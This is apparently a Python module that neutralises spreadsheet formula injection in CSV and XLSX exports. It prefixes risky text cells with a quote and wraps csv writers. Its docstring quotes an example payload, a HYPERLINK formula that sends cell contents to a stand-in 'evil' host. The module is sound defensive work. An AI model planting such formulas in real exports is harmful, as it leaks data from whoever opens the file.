"""Every CSV or XLSX the product writes goes through this module (formula injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("https://evil/?"&A1)`` typed into a
name field would run on the desk of whoever opens an export. The product stores what
people typed, verbatim; only the cell written to a spreadsheet is neutralised, by
prefixing a single quote (OWASP's advice), which the spreadsheet shows as text.

Rules for any new export:
- write rows with :func:`csv_writer` (or pass every value through :func:`safe_cell`);
- for XLSX (openpyxl) pass every string through :func:`safe_cell` before ``ws.append``;
- numbers, dates and booleans are left alone: only text can carry a formula.
tests/test_spreadsheets.py checks the helper and that no module writes CSV or XLSX
without it.
"""

import csv

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value to write into one spreadsheet cell: text that a spreadsheet would read as
    a formula gets a leading ``'``; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values):
    """A row (list or dict of cells) with every cell made safe."""
    if isinstance(values, dict):
        return {key: safe_cell(value) for key, value in values.items()}
    return [safe_cell(value) for value in values]


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def writeheader(self):
        return self._writer.writeheader()

    def __getattr__(self, name):
        return getattr(self._writer, name)


def csv_writer(out, fieldnames=None, **kwargs):
    """``csv.writer`` (or ``csv.DictWriter`` when ``fieldnames`` is given) whose every
    cell passes through :func:`safe_cell`."""
    if fieldnames is None:
        return _SafeWriter(csv.writer(out, **kwargs))
    return _SafeWriter(csv.DictWriter(out, fieldnames=fieldnames, **kwargs))
